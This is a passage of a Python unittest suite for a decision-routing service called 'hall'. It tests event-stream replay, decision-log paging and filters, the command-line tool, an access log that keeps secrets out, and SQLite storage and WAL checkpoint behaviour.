                         ["missed-%d" % i for i in range(5)] + ["live"])
        ids = [e[0] for e in events]
        self.assertEqual(ids, sorted(set(ids)))
        self.assertGreater(ids[0], first_id)

    def test_filters_heartbeat_and_kinds(self):
        original = hall.HEARTBEAT_SECONDS
        hall.HEARTBEAT_SECONDS = 0.1
        try:
            sock, reader = self.open_stream("?tenant_id=org.b")
            self.call("POST", "/decisions/ingest", {"decision_id": "a1", "tenant_id": "org.a"})
            self.call("POST", "/decisions/ingest", {"decision_id": "b1", "tenant_id": "org.b"})
            [(_, kind, data)] = self.read_events(reader, 1)
            self.assertEqual((kind, data["decision_id"]), ("decision", "b1"))
            self.assertEqual(poll(lambda: reader.readline().startswith(b": heartbeat")), True)
            reader.close()
            sock.close()
            sock, reader = self.open_stream("?types=alert,enrollment,admin")
            self.enroll(worker_record())
            self.call("POST", "/api/safe-mode/enter", {"reason": "drill"}, token=self.admin)
            kinds = [e[1] for e in self.read_events(reader, 3)]
            self.assertEqual(sorted(kinds), ["admin", "alert", "enrollment"])
            reader.close()
            sock.close()
        finally:
            hall.HEARTBEAT_SECONDS = original
        self.assertEqual(self.call("GET", "/events?types=gossip")[0], 400)
        self.assertEqual(self.call("GET", "/events", headers={"Last-Event-ID": "x"})[0], 400)

    def test_a_slow_reader_is_dropped(self):
        self.hall.events = hall.EventBus(retain=100, per_subscriber=5)
        subscription = self.hall.subscribe()
        for i in range(10):
            self.hall.events.publish("decision", {"n": i})
        self.assertTrue(subscription.dropped)
        self.assertEqual(subscription.queue.qsize(), 5)
        self.assertEqual(self.hall.events.subscribers, 0)

    def test_missed_decisions_are_read_back_from_the_log(self):
        self.enroll(worker_record())
        live = self.hall.subscribe(types={"decision"})
        try:
            self.assertEqual(self.route()[0], 200)
            self.assertEqual(self.route(capability_id="cap.nobody.has")[0], 200)   # denied
            self.assertEqual(self.call("POST", "/decisions/ingest",
                                       {"decision_id": "ingested", "blast_score": 7})[0], 201)
            sent = [live.queue.get(timeout=5) for _ in range(3)]
        finally:
            self.hall.events.unsubscribe(live)
        self.assertEqual([e[2]["denied"] for e in sent], [0, 1, 0])
        # Kept by their places in the chain, not as the events themselves.
        self.assertEqual(list(self.hall.events._decision_places),
                         [place for place, in self.db_rows(
                             "SELECT chain_seq FROM decisions ORDER BY chain_seq")])
        self.assertEqual([e for e in self.hall.events._events if e[1] == "decision"], [])
        replayed = self.hall.subscribe(last_id=sent[0][0] - 1, types={"decision"})
        self.hall.events.unsubscribe(replayed)
        self.assertEqual(replayed.missed, sent)             # as they were sent live
        with contextlib.closing(sqlite3.connect(self.db)) as conn, conn:
            conn.execute("DELETE FROM decisions WHERE decision_id = ?",
                         (sent[1][2]["decision_id"],))
        replayed = self.hall.subscribe(last_id=sent[0][0], types={"decision"})
        self.hall.events.unsubscribe(replayed)
        self.assertEqual(replayed.missed, [sent[2]])        # no longer in the log: not sent
        # An edited file: a forged row at a place already taken, text not UTF-8.
        with contextlib.closing(sqlite3.connect(self.db)) as conn, conn:
            conn.execute("INSERT INTO decisions (decision_id, decided_at, capability_id, "
                         "chain_seq) SELECT 'forged', decided_at, capability_id, chain_seq "
                         "FROM decisions WHERE decision_id = 'ingested'")
            conn.execute("UPDATE decisions SET env = CAST(X'FF' AS TEXT) "
                         "WHERE decision_id = 'ingested'")
        replayed = self.hall.subscribe(last_id=sent[0][0], types={"decision"})
        self.hall.events.unsubscribe(replayed)
        self.assertEqual(replayed.missed, [(sent[2][0], "decision",
                                            dict(sent[2][2], env="\ufffd"))])

    def test_a_reconnect_that_missed_too_much_is_dropped_and_sent_nothing_new(self):
        bus = hall.EventBus(retain=3, per_subscriber=2,
                            read_decisions=lambda places: {p: {"place": p} for p in places})
        before = bus._next_id - 1
        for place in range(1, 7):
            bus.publish("decision", {"place": place}, place)
        bus.publish("alert", {"code": "A"})
        self.assertEqual(list(bus._decision_places), [4, 5, 6])     # retain=3, cut at 6
        everything = bus.subscribe(before, lambda event: True)
        self.assertTrue(everything.dropped)
        self.assertEqual([e[2] for e in everything.missed], [{"place": 4}, {"place": 5}])
        bus.publish("alert", {"code": "B"})
        self.assertTrue(everything.queue.empty())
        self.assertEqual(bus.subscribers, 0)
        alerts = bus.subscribe(before, lambda event: event[1] == "alert")
        bus.publish("alert", {"code": "C"})
        self.assertEqual([e[2] for e in alerts.missed], [{"code": "A"}, {"code": "B"}])
        self.assertEqual(alerts.queue.get_nowait()[2], {"code": "C"})
        self.assertEqual([e[0] for e in alerts.missed], sorted(e[0] for e in alerts.missed))

    def test_a_reconnect_reads_back_only_the_decisions_it_can_be_sent(self):
        read = []

        def read_decisions(places):
            read.extend(places)
            return {p: {"tenant_id": "org.a" if p % 2 else "org.b"} for p in places}
        bus = hall.EventBus(retain=2000, per_subscriber=5, read_decisions=read_decisions)
        before = bus._next_id - 1
        for place in range(1, 2001):
            bus.publish("decision", {}, place)
        bus.publish("alert", {"code": "A"})
        alerts = bus.subscribe(before, lambda event: event[1] == "alert", decisions=False)
        self.assertEqual(([e[2] for e in alerts.missed], read), ([{"code": "A"}], []))
        tenant_b = bus.subscribe(before, lambda e: e[2].get("tenant_id") == "org.b")
        self.assertEqual(read, list(range(1, 501)))         # one chunk had enough
        self.assertTrue(tenant_b.dropped)
        self.assertEqual([e[2] for e in tenant_b.missed], [{"tenant_id": "org.b"}] * 5)

    def test_ids_stay_ahead_of_a_busy_hall_across_a_restart(self):
        with mock.patch.object(hall.time, "time", return_value=1000.0):
            before = hall.EventBus()
            for _ in range(5000):               # 5,000 events in its last second
                before.publish("alert", {})
        with mock.patch.object(hall.time, "time", return_value=1001.0):
            after = hall.EventBus()
            after.publish("alert", {})
        self.assertGreater(after._events[0][0], before._events[-1][0])

    def test_a_stream_that_missed_too_much_is_told_at_once(self):
        self.hall.events = hall.EventBus(retain=100, per_subscriber=2,
                                         read_decisions=self.hall.store.decision_events)
        for i in range(3):
            self.assertEqual(self.call("POST", "/decisions/ingest",
                                       {"decision_id": "d%d" % i})[0], 201)
        sock, reader = self.open_stream(last_id=0)
        try:
            events = self.read_events(reader, 3)        # (well before a heartbeat)
        finally:
            reader.close()
            sock.close()
        self.assertEqual([(e[1], e[2].get("decision_id")) for e in events],
                         [("decision", "d0"), ("decision", "d1"), ("dropped", None)])

    def test_a_reconnect_the_log_cannot_answer_leaves_no_subscriber(self):
        def busy(places):
            raise hall.Unavailable()
        bus = hall.EventBus(read_decisions=busy)
        bus.publish("decision", {}, 1)
        with self.assertRaises(hall.Unavailable):
            bus.subscribe(0, lambda event: True)
        self.assertEqual(bus.subscribers, 0)
        self.assertEqual(bus.subscribe(None, lambda event: True).missed, [])


class DecisionLogTest(ServerCase):

    def setUp(self):
        ServerCase.setUp(self)
        rows = [("d%03d" % i, "2026-01-%02dT00:00:00.%06d+00:00" % (1 + i % 28, i),
                 "cap.%d" % (i % 3), "org.a" if i % 2 else "org.b", "dev", int(i % 5 == 0))
                for i in range(250)]
        self.hall.store.write(lambda conn: conn.executemany(
            "INSERT INTO decisions (decision_id, decided_at, capability_id, tenant_id, env, "
            "denied) VALUES (?, ?, ?, ?, ?, ?)", rows))
        self.rows = rows

    def test_default_answer_is_unchanged(self):
        body = self.call("GET", "/dispatches")[2]
        self.assertEqual(set(body), {"dispatches", "count"})
        self.assertEqual(body["count"], 50)

    def test_cursor_pages_through_everything_once(self):
        seen, cursor, pages = [], "", 0
        while cursor is not None:
            status, _, body = self.call("GET", "/dispatches?limit=70&cursor=" + cursor)
            self.assertEqual(status, 200)
            seen += [d["decision_id"] for d in body["dispatches"]]
            cursor = body["next_cursor"]
            pages += 1
        self.assertEqual(pages, 4)
        self.assertEqual(sorted(seen), sorted(r[0] for r in self.rows))
        expected = [r[0] for r in sorted(self.rows, key=lambda r: r[1], reverse=True)]
        self.assertEqual(seen, expected)

    def test_filters(self):
        def ids(query):
            status, _, body = self.call("GET", "/dispatches?limit=200&" + query)
            self.assertEqual(status, 200, body)
            return {d["decision_id"] for d in body["dispatches"]}
        self.assertEqual(ids("tenant_id=org.a"), {r[0] for r in self.rows if r[3] == "org.a"})
        self.assertEqual(ids("denied=1&capability_id=cap.0"),
                         {r[0] for r in self.rows if r[5] and r[2] == "cap.0"})
        self.assertEqual(ids("since=2026-01-27&until=2026-01-28T00:00:00Z"),
                         {r[0] for r in self.rows if r[1].startswith("2026-01-27")})
        for bad in ("denied=maybe", "since=soon", "cursor=%%%"):
            self.assertEqual(self.call("GET", "/dispatches?" + bad)[0], 400, bad)


class OperationsCommandLineTest(TempDirCase):

    def setUp(self):
        TempDirCase.setUp(self)
        self.record = self.write_file("worker.json", {
            "worker_id": "w.cli", "worker_species_id": "wrk.cli", "capabilities": ["cap.cli"]})

    def hall_cli(self, *args, **kwargs):
        return run_hall(list(args), **kwargs)

    def test_enroll_route_status_export_prune(self):
        result = self.hall_cli("enroll", self.record, "--db", self.db)
        self.assertEqual(result.returncode, 2)
        self.assertIn("artifact_hash is required", result.stderr)
        result = self.hall_cli("enroll", self.record, "--compute-hash", "--db", self.db)
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertEqual(json.loads(result.stdout)["worker_id"], "w.cli")
        allowed = self.hall_cli("route", "--capability", "cap.cli", "--env", "dev",
                                "--data-label", "PUBLIC", "--tenant", "org.a", "--db", self.db)
        self.assertEqual(allowed.returncode, 0, allowed.stderr)
        self.assertTrue(allowed.stdout.startswith("allowed: w.cli"))
        denied = self.hall_cli("route", "--capability", "cap.other", "--env", "dev",
                               "--data-label", "PUBLIC", "--tenant", "org.a", "--json",
                               "--db", self.db)
        self.assertEqual(denied.returncode, 1)
        self.assertEqual(json.loads(denied.stdout)["deny_reason"], "DENY_NO_MATCHING_RULE")
        broken = self.hall_cli("route", "--capability", "cap.cli", "--env", "moon",
                               "--data-label", "PUBLIC", "--tenant", "org.a", "--db", self.db)
        self.assertEqual(broken.returncode, 2)
        self.assertEqual(len(broken.stderr.strip().splitlines()), 1)
        status = json.loads(self.hall_cli("status", "--db", self.db).stdout)
        self.assertEqual((status["workers_enrolled"], status["decisions_total"]), (1, 2))
        workers = json.loads(self.hall_cli("workers", "--db", self.db).stdout)
        self.assertEqual(workers["count"], 1)
        listing = json.loads(self.hall_cli("dispatches", "--denied", "1", "--db", self.db).stdout)
        self.assertEqual([d["capability_id"] for d in listing["dispatches"]], ["cap.other"])
        lines = self.hall_cli("export", "--db", self.db).stdout.splitlines()
        self.assertEqual([json.loads(l)["capability_id"] for l in lines], ["cap.cli", "cap.other"])
        csv_out = self.hall_cli("export", "--format", "csv", "--denied", "0", "--db", self.db)
        self.assertEqual(csv_out.stdout.splitlines()[0], ",".join(hall.DECISION_COLUMNS))
        self.assertEqual(len(csv_out.stdout.splitlines()), 2)
        old = hall.Hall(hall.Config(db_path=self.db))
        old.ingest({"decision_id": "old", "decided_at": "2020-01-01T00:00:00Z"})
        old.close()
        pruned = self.hall_cli("prune", "--older-than", "90d", "--db", self.db)
        self.assertEqual(pruned.returncode, 0, pruned.stderr)
        self.assertTrue(pruned.stdout.startswith("removed 1 decisions"))
        conn = sqlite3.connect(self.db)
        try:
            self.assertEqual(conn.execute("SELECT count(*) FROM decisions").fetchone(), (2,))
            action, detail = conn.execute("SELECT action, detail FROM audit").fetchone()
        finally:
            conn.close()
        self.assertEqual((action, json.loads(detail)["removed"]), ("decisions.prune", 1))
        self.assertEqual(self.hall_cli("status", "--db", os.path.join(self.tmp.name, "no.db"))
                         .returncode, 2)

    def test_a_closed_pipe_and_ctrl_c_end_a_command_without_a_traceback(self):
        hall._preload(self.db, 3000, 1)         # an export far longer than a pipe holds
        process = subprocess.Popen([sys.executable, HALL_PY, "export", "--db", self.db],
                                   env=hall_environ(), stdout=subprocess.PIPE,
                                   stderr=subprocess.PIPE)
        try:
            self.assertTrue(process.stdout.read(100).startswith(b'{"decision_id"'))
            process.stdout.close()              # as `hall.py export | head -c 100` would
            self.assertEqual(process.wait(30), 2)
            self.assertEqual(process.stderr.read(), b"")
        finally:
            reap(process)
        for request in ("[" * 3000 + "]" * 3000, '{"a": NaN}', '{"a": 1, "a": 2}'):
            result = self.hall_cli("route", "--db", self.db, "--capability", "cap.none",
                                   "--env", "dev", "--data-label", "PUBLIC", "--tenant", "org.a",
                                   "--request", request)
            self.assertEqual(result.returncode, 2, request[:20])
            self.assertEqual(len(result.stderr.splitlines()), 1, result.stderr[-300:])
            self.assertIn("--request", result.stderr)
        result = self.hall_cli("prune", "--db", self.db, "--older-than", "740000")
        self.assertEqual((result.returncode, result.stderr), (0, ""))
        self.assertIn("before 0001-01-01", result.stdout)
        if os.path.exists("/dev/full"):         # a full disk: one line, and never "denied"
            with open("/dev/full", "w") as full:
                result = subprocess.run([sys.executable, HALL_PY, "route", "--db", self.db,
                                         "--capability", "cap.none", "--env", "dev",
                                         "--data-label", "PUBLIC", "--tenant", "org.a"],
                                        env=hall_environ(), stdout=full, stderr=subprocess.PIPE,
                                        text=True, timeout=60)
            self.assertEqual(result.returncode, 2)
            self.assertEqual(result.stderr.splitlines(), [
                "hall.py: error: [Errno 28] No space left on device"])
        with mock.patch.object(hall, "read_json_argument", side_effect=KeyboardInterrupt):
            self.assertEqual(hall.main(["verify-receipt", "-"]), 130)

    def test_route_and_status_against_a_running_hall(self):
        h = hall.Hall(hall.Config(db_path=self.db, access_log=False, token="cli-token"))
        server = h.serve(port=0)
        try:
            h.enroll(worker_record("w.url", "wrk.url", ["cap.url"]))
            result = self.hall_cli("route", "--url", server.url, "--token", "cli-token",
                                   "--capability", "cap.url", "--env", "dev", "--data-label",
                                   "PUBLIC", "--tenant", "t")
            self.assertEqual((result.returncode, result.stdout.split()[1]), (0, "w.url"))
            result = self.hall_cli("route", "--url", server.url, "--capability", "cap.url",
                                   "--env", "dev", "--data-label", "PUBLIC", "--tenant", "t")
            self.assertEqual(result.returncode, 2)
            self.assertIn("401", result.stderr)
            status = json.loads(self.hall_cli("status", "--url", server.url).stdout)
            self.assertEqual(status["decisions_total"], 1)
            page = json.loads(self.hall_cli("dispatches", "--url", server.url).stdout)
            local = json.loads(self.hall_cli("dispatches", "--db", self.db).stdout)
            self.assertEqual(page, local)       # (both paged: next_cursor is there)
            self.assertEqual((page["count"], page["next_cursor"]), (1, None))
        finally:
            server.stop()
            h.close()

    def bench_rows(self, *args, **env):
        """Run a short bench; its table's rows, by endpoint."""
        result = self.hall_cli("bench", "--seconds", "0.2", "--warmup", "0", "--processes", "1",
                               "--connections", "4", *args, env=dict(env, TMPDIR=self.tmp.name),
                               timeout=120)
        self.assertEqual(result.returncode, 0, result.stderr)
        rows = {}
        for line in result.stdout.splitlines():
            for label, _method, _path, target in hall.BENCH_TARGETS:
                if line.startswith(label + " "):
                    rows[label] = line[len(label):].split()
        self.assertEqual(sorted(rows), sorted(t[0] for t in hall.BENCH_TARGETS), result.stdout)
        for label, _method, _path, target in hall.BENCH_TARGETS:
            rate, _p50, _p99, errors, ceiling, ratio = rows[label][:6]
            self.assertEqual(errors, "0", label)
            self.assertGreater(float(rate), 0, label)
            self.assertAlmostEqual(float(ratio), float(rate) / float(ceiling), delta=0.01)
            self.assertEqual(rows[label][6], "%.1f" % target)
        return result.stdout

    def test_bench_measures_a_hall_it_starts_and_a_running_one(self):
        out = self.bench_rows("--decisions", "300", "--workers", "5")
        self.assertIn("preloading 300 decisions and 5 workers", out)
        self.assertRegex(out, r"peak RSS of the hall: \d+\.\d MB")
        self.assertEqual([n for n in os.listdir(self.tmp.name) if n.startswith("hall-bench-")], [])
        h = hall.Hall(hall.Config(db_path=self.db, access_log=False, token="bench-token"))
        server = h.serve(port=0)
        try:
            out = self.bench_rows("--url", server.url, HALL_TOKEN="bench-token")
            self.assertIn("against %s" % server.url, out)
            self.assertNotIn("peak RSS", out)       # (not this process's hall to measure)
            status = h.status()
            self.assertGreater(status["workers_enrolled"], 0)
            self.assertGreater(status["decisions_total"], 0)
            result = self.hall_cli("bench", "--seconds", "0.2", "--warmup", "0", "--processes",
                                   "1", "--connections", "4", "--url", server.url, "--token",
                                   "wrong", timeout=120)    # every route refused: no figure
            self.assertEqual(result.returncode, 1, result.stderr)
            route_row = [line for line in result.stdout.splitlines()
                         if line.startswith("POST /api/route ")][0]
            self.assertTrue(route_row.endswith(" ERRORS"), route_row)
            self.assertIn("the figures do not measure the hall", result.stderr)
        finally:
            server.stop()
            h.close()

    def test_rules_and_policy_checks(self):
        path = os.path.join(self.tmp.name, "rules.json")
        with open(path, "w") as handle:
            json.dump({"rules": [rule("broad", {"env": "prod"}),
                                 rule("narrow", {"env": "prod", "tenant_id": "t"})]}, handle)
        result = self.hall_cli("rules", "check", path)
        self.assertEqual(result.returncode, 1)
        self.assertIn("'narrow' can never match", result.stdout)
        with open(path, "w") as handle:
            json.dump({"rules": [rule("only", {"env": "prod"})]}, handle)
        self.assertEqual(self.hall_cli("rules", "check", path).returncode, 0)
        with open(path, "w") as handle:
            handle.write('{"rules": [{"rule_id": 1}]}')
        result = self.hall_cli("rules", "check", path)
        self.assertEqual((result.returncode, len(result.stderr.strip().splitlines())), (2, 1))
        with open(path, "w") as handle:
            json.dump(PROD_WRITES_POLICY, handle)
        result = self.hall_cli("policy", "check", path)
        self.assertEqual(result.returncode, 0)
        self.assertIn("policy 2026-11-a", result.stdout)
        with open(path, "w") as handle:
            json.dump({"version": "x", "default": "NOPE"}, handle)
        self.assertEqual(self.hall_cli("policy", "check", path).returncode, 2)

    def test_help_and_wrong_arguments(self):
        result = self.hall_cli("--help")
        self.assertEqual(result.returncode, 0)
        for command in ("serve", "route", "enroll", "hash", "rules", "policy", "status",
                        "workers", "dispatches", "token", "export", "prune", "bench"):
            self.assertIn(command, result.stdout)
        hall.Hall(hall.Config(db_path=self.db, access_log=False)).close()
        for args in (["route", "--blast-score", "x"], ["frobnicate"], ["prune"],
                     ["prune", "--older-than", "soon", "--db", self.db],
                     ["prune", "--older-than", "99999999999d", "--db", self.db]):
            result = self.hall_cli(*args)
            self.assertEqual(result.returncode, 2, args)
            self.assertNotIn("Traceback", result.stderr)


class AccessLogTest(unittest.TestCase):

    def test_json_access_log_has_no_secrets_or_bodies(self):
        with tempfile.TemporaryDirectory() as tmp:
            environ = hall_environ(HALL_API_PORT="0", HALL_TOKEN="super-secret-token")
            process = subprocess.Popen([sys.executable, "-u", HALL_PY, "--log-json", "--db",
                                        os.path.join(tmp, "hall.db")], cwd=tmp, env=environ,
                                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            try:
                url = process.stdout.readline().split(" on ")[1].strip()
                client = Client(url)
                client.request("POST", "/api/route", route_body(tenant_id="body-marker"),
                               "super-secret-token")
                client.request("GET", "/status")
                client.close()
                process.terminate()
                process.wait(15)
                log = process.stderr.read()
            finally:
                reap(process)
        entries = [json.loads(line) for line in log.splitlines() if line.startswith("{")]
        self.assertEqual([(e["method"], e["path"], e["status"], e["token"]) for e in entries],
                         [("POST", "/api/route", 200, "env"), ("GET", "/status", 200, None)])
        self.assertNotIn("super-secret-token", log)
        self.assertNotIn("body-marker", log)


# -- storage -------------------------------------------------------------------------

REFERENCE_SCHEMA = """
CREATE TABLE enrollments (enrollment_id TEXT PRIMARY KEY, worker_id TEXT NOT NULL UNIQUE,
    worker_species_id TEXT NOT NULL, capabilities TEXT NOT NULL, risk_tier TEXT NOT NULL,
    enrolled_at TEXT NOT NULL, artifact_hash TEXT NOT NULL, record_json TEXT NOT NULL);
CREATE TABLE decisions (decision_id TEXT PRIMARY KEY, decided_at TEXT NOT NULL,
    capability_id TEXT NOT NULL, tenant_id TEXT NOT NULL DEFAULT '',
    env TEXT NOT NULL DEFAULT 'dev', denied INTEGER NOT NULL DEFAULT 0, deny_reason TEXT,
    selected_worker TEXT, blast_score INTEGER, artifact_hash TEXT);
CREATE TABLE alerts (alert_id TEXT PRIMARY KEY, created_at TEXT NOT NULL, level TEXT NOT NULL,
    code TEXT NOT NULL, message TEXT NOT NULL, worker_id TEXT, capability_id TEXT);
"""


class StorageTest(ServerCase):

    def test_everything_survives_a_restart(self):
        self.enroll(worker_record())
        routed = self.route()[2]
        self.call("POST", "/decisions/ingest", {"decision_id": "kept", "denied": True})
        tampered = worker_record("w.bad")
        tampered["risk_tier"] = "high"
        self.call("POST", "/enroll", tampered)
        before = [self.call("GET", p)[2] for p in ("/workers", "/dispatches", "/alerts")]
        status_before = self.call("GET", "/status")[2]
        self.restart()
        after = [self.call("GET", p)[2] for p in ("/workers", "/dispatches", "/alerts")]
        self.assertEqual(before, after)
        status_after = self.call("GET", "/status")[2]
        for key in ("workers_enrolled", "decisions_total", "decisions_today", "denials_today"):
            self.assertEqual(status_before[key], status_after[key], key)
        self.assertEqual(self.route()[2]["worker_id"], routed["worker_id"])

    def test_schema_is_wal_with_indexes_and_a_version(self):
        self.assertEqual(self.db_rows("PRAGMA journal_mode"), [("wal",)])
        self.assertEqual(self.db_rows("PRAGMA user_version"), [(len(hall.MIGRATIONS),)])
        indexes = {r[0] for r in self.db_rows("SELECT name FROM sqlite_master WHERE type='index'")}
        self.assertTrue({"decisions_by_time", "alerts_by_time", "enrollments_by_time"} <= indexes)
        plan = " ".join(str(r) for r in self.db_rows(
            "EXPLAIN QUERY PLAN SELECT * FROM decisions ORDER BY decided_at DESC, rowid DESC LIMIT 5"))
        self.assertIn("decisions_by_time", plan)
        self.assertNotIn("TEMP B-TREE", plan)

    def test_ids_are_version_4_uuids_that_begin_with_the_time(self):
        before = int(time.time() * 1000)
        ids = [hall.new_id() for _ in range(5000)]
        after = int(time.time() * 1000)
        self.assertEqual(len(set(ids)), len(ids))
        for text in ids:
            parsed = uuid.UUID(text)
            self.assertEqual((str(parsed), parsed.version, parsed.variant),
                             (text, 4, uuid.RFC_4122))
            self.assertTrue(before <= int(text[:8] + text[9:13], 16) <= after, text)
        self.assertGreater(len({text[14:] for text in ids}), 4990)     # the rest is random
        self.enroll(worker_record())
        routed = [self.route()[2]["decision_id"] for _ in range(3)]
        stored = [r[0] for r in self.db_rows("SELECT decision_id FROM decisions "
                                             "ORDER BY chain_seq")]
        self.assertEqual(stored[-3:], routed)
        self.assertEqual(sorted(routed, key=lambda text: text[:13]), routed)

    def test_day_counts_follow_the_log_through_shared_commits_and_failures(self):
        self.assertEqual(self.db_rows("SELECT name FROM sqlite_master WHERE type = 'trigger' "
                                      "AND name = 'decisions_counted'"), [])
        self.enroll(worker_record())
        url = self.server.url

        def ingest(index):      # 12 ids over two days, each sent twice, a third denied
            client = Client(url)
            try:
                return client.request("POST", "/decisions/ingest", {
                    "decision_id": "d%d" % (index % 12), "denied": index % 3 == 0,
                    "decided_at": "2020-01-0%dT23:59:59.000000+00:00" % (1 + index % 2)},
                    token=self.admin)[0]
            finally:
                client.close()
        threads = [threading.Thread(target=ingest, args=(i,)) for i in range(24)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        self.route()
        self.route(capability_id="cap.unknown")

        def appends_then_fails(conn):
            self.hall.store._append(conn, "decisions", ["lost", hall.now_iso(), "cap", "t",
                                                        "dev", 1] + [None] * 8)
            raise ValueError("after the append")
        with self.assertRaises(ValueError):
            self.hall.store.write(appends_then_fails)
        self.assertEqual(self.db_rows("SELECT count(*) FROM decisions WHERE decision_id = "
                                      "'lost'"), [(0,)])

        def appends_then_deletes(conn):     # (as a prune sharing the batch of an old ingest)
            self.hall.store._append(conn, "decisions", ["gone", "2001-02-03T04:05:06.000000"
                                                        "+00:00", "cap", "t", "dev", 1] +
                                    [None] * 8)
            conn.execute("DELETE FROM decisions WHERE decision_id = 'gone'")
        self.hall.store.write(appends_then_deletes)
        counted = ("SELECT day, total, denied FROM decision_days WHERE total > 0 ORDER BY day",
                   "SELECT substr(decided_at, 1, 10), count(*), sum(denied != 0) "
                   "FROM decisions GROUP BY 1 ORDER BY 1")
        today = hall.utc_day()
        self.assertEqual(self.db_rows(counted[0]), [("2020-01-01", 6, 2), ("2020-01-02", 6, 2),
                                                    (today, 2, 1)])
        self.assertEqual(self.db_rows(counted[0]), self.db_rows(counted[1]))
        status = self.call("GET", "/status")[2]
        self.assertEqual((status["decisions_total"], status["decisions_today"],
                          status["denials_today"]), (14, 2, 1))
        conn = sqlite3.connect(self.db)                 # edits still recount (triggers)
        with conn:
            conn.execute("DELETE FROM decisions WHERE decision_id = 'd0'")
            conn.execute("UPDATE decisions SET denied = 1 WHERE decision_id = 'd1'")
        conn.close()
        self.assertEqual(self.db_rows(counted[0]), [("2020-01-01", 5, 1), ("2020-01-02", 6, 3),
                                                    (today, 2, 1)])
        self.assertEqual(self.db_rows(counted[0]), self.db_rows(counted[1]))

    def test_tokens_are_stored_only_as_hashes(self):
        rows = self.db_rows("SELECT token_hash, scopes FROM tokens")
        self.assertEqual(len(rows), 3)
        self.assertNotIn(self.admin, str(rows))
        self.assertIn((hashlib.sha256(self.admin.encode()).hexdigest(), "admin"), rows)


class WriterTest(TempDirCase):

    def test_a_committed_write_is_answered_while_another_connection_holds_the_lock(self):
        store = hall.Store(self.db, busy_timeout_ms=10000)
        self.addCleanup(store.close)
        other = sqlite3.connect(self.db, isolation_level=None, check_same_thread=False)
        self.addCleanup(other.close)
        running, go_on, answers = threading.Event(), threading.Event(), queue.Queue()

        def first(conn):                        # the batch that commits before the lock
            store._audit(conn, (None, "test.first", None, {}))
            running.set()
            go_on.wait(10)
            return "first"

        def write(work):
            answers.put(store.write(work, timeout=20))

        # Once the first batch has committed, another connection takes the
        # write lock before the writer can begin the second batch.
        store.on_audit = lambda entry: other.execute("BEGIN IMMEDIATE")
        threading.Thread(target=write, args=(first,)).start()
        self.assertTrue(running.wait(10))
        second = threading.Thread(target=write, args=(lambda conn: "second",))
        second.start()
        self.assertTrue(poll(lambda: store._jobs.qsize() == 1, 10))     # queued behind
        go_on.set()
        self.assertEqual(answers.get(timeout=5), "first")   # not held back by the lock
        self.assertTrue(second.is_alive())
        other.execute("COMMIT")
        second.join(10)
        self.assertEqual(answers.get(timeout=5), "second")


    def test_a_close_with_a_deadline_stops_waiting_for_another_connections_lock(self):
        store = hall.Store(self.db, busy_timeout_ms=60000)
        other = sqlite3.connect(self.db, isolation_level=None)
        self.addCleanup(other.close)
        other.execute("BEGIN IMMEDIATE")
        jobs = [hall.WriteJob(lambda conn: "written") for _ in range(30 * store.MAX_BATCH)]
        for job in jobs:
            store._submit(job)
        started = time.monotonic()
        store.close(started)
        # not a wait for the lock per batch (30 batches, 0.1 s each), nor the busy timeout
        self.assertLess(time.monotonic() - started, 2.0)
        self.assertEqual({type(job.error) for job in jobs}, {hall.Unavailable})

    def test_checkpoints_are_made_beside_the_commits_and_start_the_wal_over(self):
        store = hall.Store(self.db)
        self.addCleanup(store.close)
        store.CHECKPOINT_EVERY, store.CHECKPOINT_RESTART = 2, 30
        # Commits leave checkpoints to the thread, up to the backstop.
        self.assertEqual(store._writer.execute("PRAGMA wal_autocheckpoint").fetchone(),
                         (hall.Store.CHECKPOINT_BACKSTOP,))
        wal, largest = self.db + "-wal", 0
        for number in range(300):
            self.assertTrue(store.write(append=("decisions", self.decision_values(number))))
            largest = max(largest, os.path.getsize(wal))
        self.assertEqual(store.count_by("decisions", "env"), {"dev": 300})
        # 300 commits of several pages each make a WAL of some 2,500 pages
        # unless it is started over (then a few hundred at most).
        page = store._writer.execute("PRAGMA page_size").fetchone()[0]
        self.assertLess(largest, 1000 * page)
        checkpointer = store._checkpointer
        self.assertTrue(checkpointer.is_alive())
        store.close()
        self.assertFalse(checkpointer.is_alive())


    def decision_values(self, number):
        row = dict.fromkeys(hall.CHAINED_COLUMNS["decisions"], None)
        row.update(decision_id=hall.new_id(), decided_at=hall.now_iso(), tenant_id="t",
                   capability_id="cap.%d" % (number % 7), env="dev", denied=0)
        return [row[c] for c in hall.CHAINED_COLUMNS["decisions"]]

    def test_restarting_the_wal_never_makes_this_halls_own_writes_fail(self):
        # No busy timeout at all: a checkpoint that took SQLite's write lock
        # from under the hall's own writer would fail writes at once.
        store = hall.Store(self.db, busy_timeout_ms=0)
        self.addCleanup(store.close)
        store.CHECKPOINT_EVERY, store.CHECKPOINT_RESTART = 1, 1
        reader = sqlite3.connect(self.db, isolation_level=None)
        self.addCleanup(reader.close)
        for number in range(300):
            if number % 50 == 0:                # a reader on the old WAL now and then
                reader.execute("COMMIT" if reader.in_transaction else "BEGIN")
                reader.execute("SELECT count(*) FROM decisions").fetchone()
            self.assertTrue(store.write(append=("decisions", self.decision_values(number))))
        self.assertEqual(store.count_by("decisions", "env"), {"dev": 300})

    def test_without_a_checkpoint_thread_the_commits_checkpoint_and_nothing_fails(self):
        start = threading.Thread.start

        def out_of_threads(thread):
            if thread.name == "hall-checkpointer":
                raise RuntimeError("can't start new thread")
            start(thread)
        store = hall.Store(self.db)
        store.CHECKPOINT_EVERY = 1
        with mock.patch.object(threading.Thread, "start", out_of_threads), \
                contextlib.redirect_stderr(io.StringIO()) as said:
            for number in range(3):
                self.assertTrue(store.write(append=("decisions", self.decision_values(number))))
        self.assertIn("checkpoints stay with the commits", said.getvalue())
        self.assertIs(store._checkpointer, False)
        self.assertEqual(store._writer.execute("PRAGMA wal_autocheckpoint").fetchone(), (1000,))
        store.close()                           # (checkpoints and removes the WAL)
        self.assertFalse(os.path.exists(self.db + "-wal"))


    def test_a_checkpointer_that_cannot_connect_tries_again(self):
        store = hall.Store(self.db)
        self.addCleanup(store.close)
        store.CHECKPOINT_EVERY, store.CHECKPOINT_RESTART = 1, 30
        connect, refused = store._connect, []

        def out_of_descriptors_once():
            if threading.current_thread().name == "hall-checkpointer" and not refused:
                refused.append(True)
                raise sqlite3.OperationalError("unable to open database file")
            return connect()
        store._connect = out_of_descriptors_once
        largest = 0
        with contextlib.redirect_stderr(io.StringIO()) as said:
            for number in range(300):
